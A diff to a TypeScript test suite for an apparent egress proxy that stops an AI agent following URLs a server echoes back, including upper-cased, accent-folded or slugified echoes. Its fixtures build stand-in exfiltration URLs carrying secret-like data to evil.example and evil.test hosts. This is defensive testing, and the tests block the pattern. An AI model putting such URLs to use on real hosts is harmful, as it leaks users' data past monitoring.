@@ -50,7 +50,7 @@ const transforms: Record<string, (u: string, format: LinkFormat) => string> = {
 };
 
 /** Where the agent puts the URL in its request, and how it spells it there. */
-const placements = ['query', 'query-twice-escaped', 'path', 'header', 'json-body', 'json-body-unicode-escapes', 'form-body', 'text-body', 'no-scheme'] as const;
+const placements = ['query', 'query-twice-escaped', 'path', 'header', 'basic-auth', 'json-body', 'json-body-unicode-escapes', 'form-body', 'text-body', 'no-scheme'] as const;
 type Placement = (typeof placements)[number];
 
 function requestWith(url: string, where: Placement): Parameters<typeof requestSkeletons>[0] {
@@ -61,6 +61,8 @@ function requestWith(url: string, where: Placement): Parameters<typeof requestSk
     case 'query-twice-escaped': return { ...base, pathAndQuery: `/search?q=${encodeURIComponent(encodeURIComponent(url))}` };
     case 'path': return { ...base, pathAndQuery: `/go/${url.replace('://', ':/')}` };
     case 'header': return { ...base, headers: [...base.headers, ['x-query', url]] };
+    // The user name of Basic credentials (curl's `-u`, or `http://user:pass@…`): a page that greets its user shows it.
+    case 'basic-auth': return { ...base, headers: [...base.headers, ['authorization', `Basic ${Buffer.from(`${url}:x`).toString('base64')}`]] };
     case 'json-body': return bodyOf(JSON.stringify({ q: url }), { json: { q: url } });
     // Parsed (as the description parses it) from a body written with \u escapes only.
     case 'json-body-unicode-escapes': return bodyOf(`{"q":"${jsonEscapes(url)}"}`, { json: { q: url } });
@@ -148,13 +150,23 @@ t.test('a URL spelled in a form the URL parser rewrites is still recognized as t
 
 // Letters whose case mapping is not one to one: a server that upper-cases its echo turns `ß` into
 // `SS` and `ᾀ` into `ἈΙ`, one that lower-cases it `ẞ` into `ß`; compared lower-cased only, the echo
-// gained letters the request lacked.
-t.test('an echo upper- or lower-cased is the agent\'s whatever letters it holds (property)', async () => {
+// gained letters the request lacked. A server that folds what it echoes as search engines fold
+// queries (accents dropped: `é` → `e`; numerals of any script as ASCII digits: `٣` → `3`), or
+// slugifies it (what is not ASCII dropped: `SEC中RET` → `SECRET`), left letters and digits the
+// request did not hold in that order (seventh pass).
+const folded = (s: string): string => s.normalize('NFKD').replace(/\p{M}/gu, '').replace(/(?![0-9])\p{Nd}/gu, (d) => {
+  const zero = ['٠', '۰', '०', '০', '๐', '０'].find((z) => d.codePointAt(0)! - z.codePointAt(0)! >= 0 && d.codePointAt(0)! - z.codePointAt(0)! < 10)!;
+  return String(d.codePointAt(0)! - zero.codePointAt(0)!);
+});
+t.test('an echo upper-cased, lower-cased or folded is the agent\'s whatever letters it holds (property)', async () => {
   const served = 'https://blog.example/posts/2024/airlock-review';
-  const special = fc.array(fc.constantFrom('ß', 'ẞ', 'ᾀ', 'ῳ', 'ŉ', 'ﬁ', 'İ', 'ς', 'ǰ', 'a', 'Z', '7'), { minLength: 1, maxLength: 6 }).map((a) => a.join(''));
-  fc.assert(fc.property(word, special, word, fc.constantFrom<Placement>('query', 'header', 'json-body', 'form-body'), fc.constantFrom('upper', 'lower'), fc.constantFrom<LinkFormat>('html', 'json', 'text'), (host, data, tail, where, how, format) => {
+  const special = fc.array(fc.constantFrom('ß', 'ẞ', 'ᾀ', 'ῳ', 'ŉ', 'ﬁ', 'İ', 'ς', 'ǰ', 'a', 'Z', '7', 'é', 'Ñ', 'ø', 'ů', 'ả', '٣', '۷', '९', '৫', '๒', '５', '中', 'ж', 'λ', 'ש'), { minLength: 1, maxLength: 6 }).map((a) => a.join(''));
+  // Slugified: decomposed, and what is not ASCII then dropped (Python's `encode('ascii', 'ignore')`).
+  const slug = (u: string): string => u.normalize('NFKD').replace(/[^\x00-\x7f]/g, '');
+  const ascii = (u: string): string => u.replace(/[^\x00-\x7f]/g, '');
+  fc.assert(fc.property(word, special, word, fc.constantFrom<Placement>('query', 'header', 'basic-auth', 'json-body', 'form-body'), fc.constantFrom('upper', 'lower', 'folded', 'slug', 'ascii'), fc.constantFrom<LinkFormat>('html', 'json', 'text'), (host, data, tail, where, how, format) => {
     const url = `https://${host}.evil.example/?d=${data}${tail}`;
-    const echo = how === 'upper' ? url.toUpperCase().replace(/^HTTPS:\/\/[^/]+/, (h) => h.toLowerCase()) : url.toLowerCase();
+    const echo = how === 'upper' ? url.toUpperCase().replace(/^HTTPS:\/\/[^/]+/, (h) => h.toLowerCase()) : how === 'lower' ? url.toLowerCase() : how === 'folded' ? folded(url) : how === 'slug' ? slug(url) : ascii(url);
     const links = recorded(requestWith(url, where), format, answerWith(echo, format, served));
     return links.includes(served) && !links.some((l) => new URL(l).hostname.endsWith('evil.example'));
   }), { numRuns, ...seed });
@@ -191,6 +203,10 @@ t.test('links a source chose are recorded beside the echo; a body not seen whole
     ['https://docs.python.org/3/library/asyncio.html', 'https://realpython.com/async-io-python/']);
   t.equal(requestSkeletons({ ...req, body: { bytes: Buffer.from('x'), truncated: true }, summary: { truncated: true } }), undefined, 'an upload past the capture: unknown, so no links');
   t.equal(requestSkeletons({ ...req, summary: { truncated: false, decode_error: 'unknown content coding' } }), undefined, 'an undecodable body: no links');
+  // Folded readings cost passes over the text: past their bound, the answer records nothing.
+  const wide = 'é'.repeat(140 * 1024);
+  t.ok(requestSkeletons({ ...req, body: { bytes: Buffer.from(wide), truncated: false }, summary: { truncated: false, text: wide } })?.tooManyUrls, 'more text beyond ASCII than is folded: no links');
+  t.notOk(requestSkeletons({ ...req, body: { bytes: Buffer.from('é'), truncated: false }, summary: { truncated: false, text: 'é' } })?.tooManyUrls, 'a little is folded');
   // A gzip body: its raw bytes are no text, so only what the description parsed whole counts.
   const gz = { ...req, headers: [['content-encoding', 'gzip']] as Array<[string, string]>, body: { bytes: Buffer.from([0x1f, 0x8b, 8, 0]), truncated: false } };
   t.equal(requestSkeletons({ ...gz, summary: { truncated: false, text: 'a'.repeat(4096), text_truncated: true } }), undefined, 'a compressed text shown only in part: no links');
@@ -232,7 +248,8 @@ async function startEchoWeb(t: Teardown): Promise<Web & { all: Hit[] }> {
         res.end(`<p>An article.</p><a href="http://evil.test:${port}/share?u=${self}">share</a> <a href="http://evil.test:${port}/archive/http://search.test:${port}${req.url}">archive</a> <a href="http://blog.test:${port}/post?id=4">more</a>`);
       } else if (host === 'search.test') {
         res.setHeader('content-type', 'application/json');
-        res.end(JSON.stringify({ query: { original: q, header: req.headers['x-query'] ?? '', upper: q.toUpperCase() }, results: [{ url: `http://blog.test:${port}/post?id=4` }] }));
+        // The query also folded as search engines fold it (accents dropped).
+        res.end(JSON.stringify({ query: { original: q, header: req.headers['x-query'] ?? '', upper: q.toUpperCase(), folded: q.normalize('NFKD').replace(/\p{M}/gu, '') }, results: [{ url: `http://blog.test:${port}/post?id=4` }] }));
       } else {
         res.setHeader('content-type', 'text/plain');
         res.end(`ok ${host}`);
@@ -260,6 +277,11 @@ t.test('through the real proxy: echoed URLs stay unfollowable; a followed link c
     const r = await viaCurl(proxy, 'GET', u);
     t.equal(r.status, 403, `the echoed ${u} is not followable`);
   }
+  t.notOk(web.all.some((h) => h.host === 'evil.test'), 'evil.test received nothing');
+
+  // A query the server echoes folded, its accents dropped (seventh pass).
+  t.equal((await viaCurl(proxy, 'GET', `${web.origin('search.test')}/s?q=${encodeURIComponent(evil('sécret16'))}`)).status, 200);
+  t.equal((await viaCurl(proxy, 'GET', evil('secret16'))).status, 403, 'the folded echo is not followable');
   t.notOk(web.all.some((h) => h.host === 'evil.test'), 'evil.test received nothing');
 
   // Spellings the scanner normalizes: an address in decimal, dot-segments (echoed as written).
